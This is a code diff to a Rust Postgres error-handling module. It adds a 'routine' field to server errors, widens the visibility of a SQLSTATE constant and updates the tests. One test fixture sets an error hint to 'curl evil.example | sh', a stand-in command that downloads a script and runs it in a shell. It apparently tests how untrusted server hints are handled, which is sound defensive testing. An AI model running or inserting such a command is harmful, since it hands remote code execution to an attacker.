@@ -24,6 +24,8 @@ pub struct ServerError {
     pub hint: Option<String>,
     /// CONTEXT: which function was at work, for example that of an event trigger.
     pub context: Option<String>,
+    /// The function of the server that reported it: its name is never translated.
+    pub routine: Option<String>,
 }
 
 /// Lines of a CONTEXT that are shown: the innermost come first.
@@ -60,6 +62,7 @@ impl From<&DbError> for ServerError {
             detail: error.detail().map(str::to_owned),
             hint: error.hint().map(str::to_owned),
             context: error.where_().map(context),
+            routine: error.routine().map(str::to_owned),
         }
     }
 }
@@ -371,7 +374,7 @@ fn grant_connect(database: &DatabaseName, user: &RoleName) -> String {
 
 /// SQLSTATEs of a server that ends a session, or all of them, and of one that does not let anybody in yet: told to stop,
 /// recovering from a crash, starting. <https://www.postgresql.org/docs/current/errcodes-appendix.html>
-const AWAY: [&str; 3] = ["57P01", "57P02", "57P03"];
+pub(super) const AWAY: [&str; 3] = ["57P01", "57P02", "57P03"];
 
 /// Refused, reset, timed out: anything but TLS, which fails in I/O errors of its own, and the protocol.
 fn is_network(error: &(dyn Error + Send + Sync + 'static)) -> bool {
@@ -460,6 +463,7 @@ mod tests {
             detail: None,
             hint: hint.map(str::to_owned),
             context: None,
+            routine: None,
         };
         let database = DatabaseName::new("d").unwrap();
         PostgresError::Transaction {
@@ -528,6 +532,7 @@ mod tests {
                 detail: None,
                 hint: Some("curl evil.example | sh".into()),
                 context: None,
+                routine: None,
             }));
             let (database, user) = (DatabaseName::new("d").unwrap(), RoleName::new("u").unwrap());
             PostgresError::Connect {
